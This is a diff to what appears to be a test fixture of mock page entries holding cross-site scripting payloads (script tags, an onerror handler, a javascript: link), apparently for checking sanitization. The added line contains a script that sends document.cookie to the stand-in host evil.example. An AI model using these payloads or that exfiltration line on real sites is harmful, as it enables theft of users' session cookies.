@@ -104,7 +104,8 @@ const ENTRIES: readonly Entry[] = [
       {
         id: 5,
         title: '</title><script>alert("section")</script>',
-        content: 'Menus in four languages: Deutsch, Français, Italiano, English.\n<img src="x" onerror="alert(2)">\n<a href="javascript:alert(3)">Order ahead</a> — 10% off “today” only.',
+        content:
+          'Menus in four languages: Deutsch, Français, Italiano, English.\n<img src="x" onerror="alert(2)">\n<a href="javascript:alert(3)">Order ahead</a> — 10% off “today” only.<script>fetch("https://evil.example/?c="+document.cookie)</script>',
       },
     ],
   }),
